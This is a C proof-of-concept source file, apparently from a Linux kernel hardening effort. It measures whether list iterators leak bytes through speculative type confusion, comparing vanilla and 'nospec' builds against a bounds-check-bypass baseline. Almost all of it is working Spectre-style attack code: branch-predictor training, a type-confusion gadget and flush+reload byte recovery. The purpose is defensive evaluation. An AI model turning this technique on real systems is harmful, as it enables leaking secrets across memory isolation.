// SPDX-License-Identifier: GPL-2.0
/*
 * poc.c - measure the transient type confusion of the list iterators.
 *
 * Built twice from this one file by measure/poc/poc.sh: against the vanilla
 * tools/include/linux/list.h and, with CONFIG_LIST_NOSPEC defined, against
 * the project's mirror of the series' iterators (measure/include in front
 * of the same pristine tools/include).  The victims below use the list
 * macros as the kernel does; nothing here re-implements an iterator.
 *
 * The gadget (Kasper et al., NDSS'22): a list whose head is embedded in a
 * structure of another type ("struct owner"), right before bytes the
 * attacker controls (owner->name).  Seen through container_of(head), the
 * entry field item->data overlaps owner->name.  When the loop's exit test
 * is mispredicted, the body runs once more with pos = container_of(head),
 * loads pos->data (the attacker's pointer), reads the byte it points to
 * and uses it to index a probe array; flush+reload recovers the byte.
 *
 * The exit test is slow because the head is reached through a global
 * pointer (g_owner) that the loop re-reads after every call made by the
 * body, and the body's work (body_work(), standing for anything that
 * evicts the line: a big working set, another thread) evicts that line.
 * pos itself comes from the cached node->next, so it is ready long before
 * the comparison resolves.
 *
 * Output is one "key value..." line per fact, for measure/poc/poc.sh to print.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <math.h>
#include <sched.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/random.h>
#include <x86intrin.h>

#include <linux/list.h>

#ifdef CONFIG_LIST_NOSPEC
#define BUILD_NAME "nospec"
#else
#define BUILD_NAME "vanilla"
#endif

#define NSLOTS		256
#define PAGE		4096
#define MAX_BYTES	256
#define LIST_LEN	3	/* entries in the victim's list */
#ifndef ROUNDS
#define ROUNDS		6	/* per cycle: ROUNDS-1 training walks, then the attack */
#endif
#ifndef CYCLES
#define CYCLES		5	/* cycles per trial (one probe reload) */
#endif

/* The entry type of the lists. */
struct item {
	unsigned long flags;
	struct list_head node;
	const unsigned char *data;	/* what the body reads through pos */
};

/* A structure of another type that embeds the head: the type confusion. */
struct owner {
	unsigned long id;
	struct list_head head;
	unsigned char name[32];		/* attacker-controlled bytes */
};

struct hitem {
	unsigned long flags;
	struct hlist_node node;
	const unsigned char *data;
};

struct howner {
	unsigned long id;
	struct hlist_head head;
	unsigned char name[32];
};

/* container_of(&owner->head, struct item, node)->data is owner->name. */
_Static_assert(offsetof(struct owner, head) - offsetof(struct item, node) +
	       offsetof(struct item, data) == offsetof(struct owner, name),
	       "item->data must overlap owner->name");

static unsigned char *probe;		/* NSLOTS slots, one per page */
static unsigned char *secret;		/* on its own page */
static unsigned char *benign;		/* the byte real entries point at: 0 */
static unsigned char *marker;		/* one slot per iteration number */
unsigned int g_sink;

/* The victims re-read these after every call made by the loop body. */
struct owner *g_owner;
struct howner *g_howner;
size_t g_array1_size = 16;
unsigned char g_array1[16];		/* all 0: training touches slot 0 only */

static struct owner own[2];		/* [0] training (LIST_LEN+1), [1] target */
static struct howner hown[2];
static struct item items[2][LIST_LEN + 1];
static struct hitem hitems[2][LIST_LEN + 1];

/*
 * Slot v sits on page v, at a different line of the page for each v, so
 * that the hardware prefetcher does not warm neighbours.
 */
static inline size_t slot(unsigned int v)
{
	return (size_t)v * PAGE + ((size_t)v * 64) % PAGE;
}

/* The gadget's access: a data-dependent load into the probe array. */
static inline __attribute__((always_inline)) void touch(unsigned char v)
{
	g_sink &= probe[slot(v)];
}

/*
 * The control: iteration number i of a walk touches marker line i.  The
 * target list has LIST_LEN entries, so line LIST_LEN is touched only by a
 * transient extra iteration; it shows that the exit was mispredicted, in
 * both builds, whatever pos is then.  It does not depend on pos.
 */
static inline __attribute__((always_inline)) void mark(unsigned int i)
{
	g_sink &= marker[slot(i & 7)];
}

/*
 * The loop body's other work.  noipa: the compiler must assume it changes
 * g_owner, as it must for a call into another compilation unit, so the
 * loop condition re-reads the head pointer.  The MFENCE makes the flushes
 * complete before that re-read: Intel does not order a load after an
 * earlier CLFLUSH of its line, so without it the exit test could still
 * hit the cache there (measured on an Intel Xeon VM: the extra iteration
 * ran in half the trials, too briefly for the gadget's dependent loads,
 * and nothing leaked; AMD Zen 4 leaked either way).
 */
__attribute__((noipa)) void body_work(void)
{
	_mm_clflush(&g_owner);
	_mm_clflush(&g_howner);
	_mm_mfence();
}

__attribute__((noipa)) void victim_list_for_each_entry(void)
{
	struct item *pos;
	unsigned int i = 0;

	list_for_each_entry(pos, &g_owner->head, node) {
		touch(*pos->data);
		mark(i++);
		body_work();
	}
}

__attribute__((noipa)) void victim_list_for_each_entry_safe(void)
{
	struct item *pos, *n;
	unsigned int i = 0;

	list_for_each_entry_safe(pos, n, &g_owner->head, node) {
		touch(*pos->data);
		mark(i++);
		body_work();
	}
}

__attribute__((noipa)) void victim_list_for_each_entry_reverse(void)
{
	struct item *pos;
	unsigned int i = 0;

	list_for_each_entry_reverse(pos, &g_owner->head, node) {
		touch(*pos->data);
		mark(i++);
		body_work();
	}
}

__attribute__((noipa)) void victim_hlist_for_each_entry(void)
{
	struct hitem *pos;
	unsigned int i = 0;

	hlist_for_each_entry(pos, &g_howner->head, node) {
		touch(*pos->data);
		mark(i++);
		body_work();
	}
}

/* Calibration: the classic bounds-check bypass. */
__attribute__((noipa)) void victim_bounds_check(size_t x)
{
	if (x < g_array1_size)
		touch(g_array1[x]);
}

static size_t g_x;	/* the index victim_bounds_check() gets */

/* Called like the list victims: through a function with no arguments. */
__attribute__((noipa)) void call_bounds_check(void)
{
	victim_bounds_check(g_x);
}

struct variant {
	const char *name;
	void (*walk)(void);
	int hlist;
};

static const struct variant variants[] = {
	{ "list_for_each_entry", victim_list_for_each_entry, 0 },
	{ "list_for_each_entry_safe", victim_list_for_each_entry_safe, 0 },
	{ "list_for_each_entry_reverse", victim_list_for_each_entry_reverse, 0 },
	{ "hlist_for_each_entry", victim_hlist_for_each_entry, 1 },
};

static void die(const char *msg)
{
	fprintf(stderr, "poc: error: %s\n", msg);
	exit(2);
}

static uint64_t time_load(const volatile unsigned char *p)
{
	unsigned int aux;
	uint64_t t0, t1;

	t0 = __rdtscp(&aux);
	(void)*p;
	t1 = __rdtscp(&aux);
	_mm_lfence();
	return t1 - t0;
}

static int cmp_u64(const void *a, const void *b)
{
	uint64_t x = *(const uint64_t *)a, y = *(const uint64_t *)b;

	return x < y ? -1 : x > y;
}

static uint64_t threshold, hit_med, miss_med;

/* Measure cached and flushed loads of the probe; pick a threshold between. */
static int calibrate_timing(void)
{
	enum { N = 2001 };
	static uint64_t hit[N], miss[N];
	int i;

	for (i = 0; i < N; i++) {
		volatile unsigned char *p = probe + slot((i * 37) & 255);

		(void)*p;
		_mm_mfence();
		hit[i] = time_load(p);
		_mm_clflush((const void *)p);
		_mm_mfence();
		miss[i] = time_load(p);
	}
	qsort(hit, N, sizeof(hit[0]), cmp_u64);
	qsort(miss, N, sizeof(miss[0]), cmp_u64);
	hit_med = hit[N / 2];
	miss_med = miss[N / 2];
	threshold = hit_med + (miss_med - hit_med) / 2;
	/* usable when the two are well apart: 90 % of hits below, of misses above */
	return miss_med > hit_med && hit[N * 9 / 10] <= threshold &&
	       miss[N / 10] > threshold;
}

static void flush_probe(void)
{
	int i;

	for (i = 0; i < NSLOTS; i++)
		_mm_clflush(probe + slot(i));
	_mm_mfence();
}

/* xorshift64: the reload order's shuffle, not the secret's randomness. */
static uint64_t order_state = 0x9e3779b97f4a7c15ULL;

static uint64_t order_next(void)
{
	order_state ^= order_state << 13;
	order_state ^= order_state >> 7;
	order_state ^= order_state << 17;
	return order_state;
}

/*
 * Add one to hits[v] for every probe slot v that is cached.  The slots are
 * read in a new random order on every call: with a fixed order, however
 * scrambled, a prefetcher learns it and brings the same lines in ahead of
 * their reads, so those slots look hot on every trial (measured on an AMD
 * EPYC of family 26: about 30 of the 256 slots hot after a flush, the same
 * ones each time, and they tie with the secret's slot).
 */
static void reload_probe(unsigned int *hits)
{
	unsigned char order[NSLOTS];
	int i;

	for (i = 0; i < NSLOTS; i++)
		order[i] = i;
	for (i = NSLOTS - 1; i > 0; i--) {
		int j = order_next() % (i + 1);
		unsigned char t = order[i];

		order[i] = order[j];
		order[j] = t;
	}
	for (i = 0; i < NSLOTS; i++) {
		unsigned int v = order[i];

		if (time_load(probe + slot(v)) <= threshold)
			hits[v]++;
	}
}

/*
 * Score a byte.  Slot 0 is excluded: every walk touches it architecturally
 * (the real entries point at a 0 byte), and the secret bytes are drawn from
 * 1..255.  The byte counts as recovered when the hottest remaining slot is
 * the secret, by a margin: at least 2 hits and at least twice the runner-up.
 * Without leakage the hottest slot is independent of the (uniformly random)
 * secret, so this happens with probability at most 1/255.
 */
static int recovered(const unsigned int *hits, unsigned char want)
{
	unsigned int best = 1, second = 0, v;

	for (v = 2; v < NSLOTS; v++)
		if (hits[v] > hits[best])
			best = v;
	for (v = 1; v < NSLOTS; v++)
		if (v != best && hits[v] > second)
			second = hits[v];
	return best == want && hits[best] >= 2 && hits[best] >= 2 * second;
}

static void set_attacker_pointer(unsigned char *name, const unsigned char *p)
{
	memcpy(name, &p, sizeof(p));
}

/* Build the two lists of each kind: training (LIST_LEN+1 entries), target. */
static void build_lists(void)
{
	int k, i;

	for (k = 0; k < 2; k++) {
		int len = k == 0 ? LIST_LEN + 1 : LIST_LEN;

		INIT_LIST_HEAD(&own[k].head);
		INIT_HLIST_HEAD(&hown[k].head);
		for (i = 0; i < len; i++) {
			items[k][i].data = benign;
			list_add_tail(&items[k][i].node, &own[k].head);
			hitems[k][i].data = benign;
		}
		/* hlist: add in reverse so that the walk order is 0..len-1 */
		for (i = len - 1; i >= 0; i--)
			hlist_add_head(&hitems[k][i].node, &hown[k].head);
		/* training owner: its transient iteration reads the 0 byte too */
		set_attacker_pointer(own[k].name, benign);
		set_attacker_pointer(hown[k].name, benign);
	}
}

#ifndef SETTLE
#define SETTLE 300
#endif
/*
 * Let the flushes complete before the victim runs.  A plain spin rather
 * than MFENCE: measured, the spin gives the bounds-check victim a much
 * more reliable leak here (it also gives every call the same history).
 */
static void settle(void)
{
	for (volatile int z = 0; z < SETTLE; z++)
		;
}

/*
 * One trial: flush the probe; CYCLES times, walk the training list
 * ROUNDS-1 times and then the target list once; reload.  The owner is
 * chosen without a branch so that the branch history before every walk is
 * the same.  The marker line of the transient iteration is flushed before
 * every walk, so after the trial it is hot only if the last (attack) walk
 * ran an extra iteration.
 */
static unsigned long g_transient;	/* trials whose marker line was hot */

static void trial_list(const struct variant *v, unsigned int *hits)
{
	uintptr_t tr = (uintptr_t)&own[0], tg = (uintptr_t)&own[1];
	uintptr_t htr = (uintptr_t)&hown[0], htg = (uintptr_t)&hown[1];
	int r;

	flush_probe();
	for (r = 0; r < ROUNDS * CYCLES; r++) {
		uintptr_t m = -(uintptr_t)(r % ROUNDS / (ROUNDS - 1));	/* ~0 on the last */

		g_owner = (struct owner *)(tr ^ (m & (tr ^ tg)));
		g_howner = (struct howner *)(htr ^ (m & (htr ^ htg)));
		_mm_clflush(&g_owner);
		_mm_clflush(&g_howner);
		_mm_clflush(marker + slot(LIST_LEN));
		settle();
		v->walk();
	}
	if (time_load(marker + slot(LIST_LEN)) <= threshold)
		g_transient++;
	reload_probe(hits);
}

static void trial_bounds_check(size_t bad_x, unsigned int *hits)
{
	size_t good = 5;
	int r;

	flush_probe();
	for (r = 0; r < ROUNDS * CYCLES; r++) {
		size_t m = -(size_t)(r % ROUNDS / (ROUNDS - 1));

		g_x = good ^ (m & (good ^ bad_x));
		_mm_clflush(&g_array1_size);
		settle();
		call_bounds_check();
	}
	reload_probe(hits);
}

/* P(X >= k) for X ~ Binomial(n, p). */
static double binom_tail(int n, double p, int k)
{
	double s = 0;
	int i;

	for (i = k; i <= n; i++)
		s += exp(lgamma(n + 1) - lgamma(i + 1) - lgamma(n - i + 1) +
			 i * log(p) + (n - i) * log1p(-p));
	return s;
}

/*
 * The chance ceiling: the smallest k with P(X >= k) <= alpha when every
 * byte is recovered by luck with probability 1/255.  A result at or above
 * it is a leak at significance alpha.
 */
static int chance_ceiling(int n, double alpha)
{
	int k;

	for (k = 0; k <= n; k++)
		if (binom_tail(n, 1.0 / 255, k) <= alpha)
			return k;
	return n + 1;
}

static unsigned int hits[NSLOTS];

static int run_bytes(int nbytes, int trials, const struct variant *v)
{
	int i, t, got = 0;

	for (i = 0; i < nbytes; i++) {
		memset(hits, 0, sizeof(hits));
		if (v)
			set_attacker_pointer(v->hlist ? hown[1].name : own[1].name,
					     &secret[i]);
		for (t = 0; t < trials; t++) {
			/* the secret is in the cache, as in the classic PoC */
			*(volatile unsigned char *)&secret[i];
			if (v)
				trial_list(v, hits);
			else
				trial_bounds_check(&secret[i] - g_array1, hits);
		}
		got += recovered(hits, secret[i]);
		if (getenv("POC_DEBUG")) {
			unsigned int b = 1, v2;
			for (v2 = 2; v2 < NSLOTS; v2++)
				if (hits[v2] > hits[b])
					b = v2;
			fprintf(stderr, "byte %d: secret %u hits %u best %u hits %u slot0 %u\n",
				i, secret[i], hits[secret[i]], b, hits[b], hits[0]);
		}
	}
	return got;
}

static void usage(void)
{
	fprintf(stderr,
		"usage: poc [--bytes N] [--trials N] [--seed N] [--alpha A] [--calibration] [--variants] [--cpu N]\n");
}

int main(int argc, char **argv)
{
	int nbytes = 40, trials = 50, do_cal = 0, do_var = 0, cpu = -1, i;
	double alpha = 1e-4;
	unsigned long seed = 0;
	int have_seed = 0;
	unsigned char *mem;

	for (i = 1; i < argc; i++) {
		const char *a = argv[i];
		char *end;

		if (!strcmp(a, "--calibration")) {
			do_cal = 1;
			continue;
		}
		if (!strcmp(a, "--variants")) {
			do_var = 1;
			continue;
		}
		if (i + 1 >= argc) {
			usage();
			die("option needs a value or is unknown; see the usage line");
		}
		errno = 0;
		if (!strcmp(a, "--bytes"))
			nbytes = strtol(argv[++i], &end, 10);
		else if (!strcmp(a, "--trials"))
			trials = strtol(argv[++i], &end, 10);
		else if (!strcmp(a, "--cpu"))
			cpu = strtol(argv[++i], &end, 10);
		else if (!strcmp(a, "--seed"))
			seed = strtoul(argv[++i], &end, 10), have_seed = 1;
		else if (!strcmp(a, "--alpha"))
			alpha = strtod(argv[++i], &end);
		else {
			usage();
			die("unknown option; see the usage line");
		}
		if (errno || *end || end == argv[i])
			die("option values are numbers, e.g. --bytes 40 --trials 50");
	}
	if (nbytes < 1 || nbytes > MAX_BYTES || trials < 1 || trials > 10000)
		die("use --bytes 1..256 and --trials 1..10000");
	if (!(alpha > 0 && alpha < 1))
		die("use --alpha between 0 and 1, e.g. 1e-4");
	if (!do_cal && !do_var)
		die("say what to run: --calibration and/or --variants");

	if (cpu >= 0) {
		cpu_set_t set;

		CPU_ZERO(&set);
		CPU_SET(cpu, &set);
		if (sched_setaffinity(0, sizeof(set), &set))
			die("cannot pin to that CPU; pick one of 0..nproc-1 with --cpu");
	}

	/* probe: NSLOTS+1 pages; secret, benign: a page each; marker: 9 pages */
	mem = mmap(NULL, (NSLOTS + 12) * PAGE, PROT_READ | PROT_WRITE,
		   MAP_PRIVATE | MAP_ANONYMOUS | MAP_POPULATE, -1, 0);
	if (mem == MAP_FAILED)
		die("cannot map the probe array; free some memory");
	probe = mem;
	memset(mem, 1, (NSLOTS + 12) * PAGE);	/* no shared zero page */
	secret = mem + (NSLOTS + 1) * PAGE;
	benign = mem + (NSLOTS + 2) * PAGE;
	*benign = 0;
	marker = mem + (NSLOTS + 3) * PAGE;

	if (!have_seed && getrandom(&seed, sizeof(seed), 0) != sizeof(seed))
		die("getrandom() failed; pass --seed N");
	srandom((unsigned int)(seed ^ (seed >> 32)));
	for (i = 0; i < nbytes; i++)
		secret[i] = 1 + random() % 255;	/* uniform over 1..255 */

	build_lists();

	printf("build %s\n", BUILD_NAME);
	printf("seed %lu\n", seed);
	if (!calibrate_timing()) {
		printf("timing %lu %lu %lu unusable\n", hit_med, miss_med, threshold);
		return 0;
	}
	printf("timing %lu %lu %lu ok\n", hit_med, miss_med, threshold);
	printf("ceiling %d %d %g\n", nbytes, chance_ceiling(nbytes, alpha), alpha);
	fflush(stdout);

	if (do_cal) {
		printf("result calibration %d %d\n", nbytes,
		       run_bytes(nbytes, trials, NULL));
		fflush(stdout);
	}
	if (do_var) {
		for (i = 0; i < (int)(sizeof(variants) / sizeof(variants[0])); i++) {
			int got;

			g_transient = 0;
			got = run_bytes(nbytes, trials, &variants[i]);
			printf("result %s %d %d %lu %d\n", variants[i].name,
			       nbytes, got, g_transient, nbytes * trials);
			fflush(stdout);
		}
	}
	return 0;
}
